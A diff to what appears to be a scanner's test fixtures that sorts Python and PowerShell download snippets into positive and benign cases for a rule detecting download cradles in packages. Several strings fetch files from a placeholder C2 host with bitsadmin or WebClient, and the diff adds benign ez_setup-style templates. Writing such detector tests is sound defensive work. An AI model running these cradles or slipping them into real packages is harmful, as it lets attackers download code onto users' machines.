@@ -359,6 +359,22 @@ BITSADMIN = f'import os\nos.system("bitsadmin /transfer job http://{C2_HOST}/a.e
 PS1_SCRIPT = (
     f"$client = New-Object System.Net.WebClient\n$client.DownloadFile('https://{C2_HOST}/x', 'x')\n"
 )
+# A bootstrapper fetching a URL its caller passes in (setuptools' old ez_setup.py does this).
+PS_TEMPLATE_DOWNLOAD = """\
+def download_file_powershell(url, target):
+    cmd = [
+        'powershell',
+        '-Command',
+        "(new-object System.Net.WebClient).DownloadFile(%(url)r, %(target)r)" % vars(),
+    ]
+    subprocess.check_call(cmd)
+"""
+BITS_TEMPLATE = (
+    "def fetch(jar_url, dest):\n"
+    '    run(f\'bitsadmin /transfer job /download /priority normal "{jar_url}" "{dest}"\')\n'
+)
+# The same template, then a cradle with its address written out further down.
+PS_TEMPLATE_THEN_CRADLE = PS_TEMPLATE_DOWNLOAD + "\n" + WEBCLIENT
 CERTUTIL_STORE = 'import subprocess\nsubprocess.run(["certutil", "-store", "Root"])\n'
 PS_ENCODED_LAUNCH = (
     "import subprocess\n"
@@ -654,8 +670,14 @@ FIXTURES_PATTERNS: dict[str, RuleFixtures] = {
             python(CERTUTIL),
             python(BITSADMIN),
             setup_py(PS_FETCH_UNPACK_START),
+            python(PS_TEMPLATE_THEN_CRADLE, "ez_setup.py"),
         ],
-        benign=[python(CERTUTIL_STORE), other(PS1_SCRIPT, "ci/fetch.ps1")],
+        benign=[
+            python(CERTUTIL_STORE),
+            other(PS1_SCRIPT, "ci/fetch.ps1"),
+            python(PS_TEMPLATE_DOWNLOAD, "ez_setup.py"),
+            python(BITS_TEMPLATE, "tools/java.py"),
+        ],
     ),
     "powershell-encoded-command": RuleFixtures(
         positive=[setup_py(PS_ENCODED_LAUNCH)],
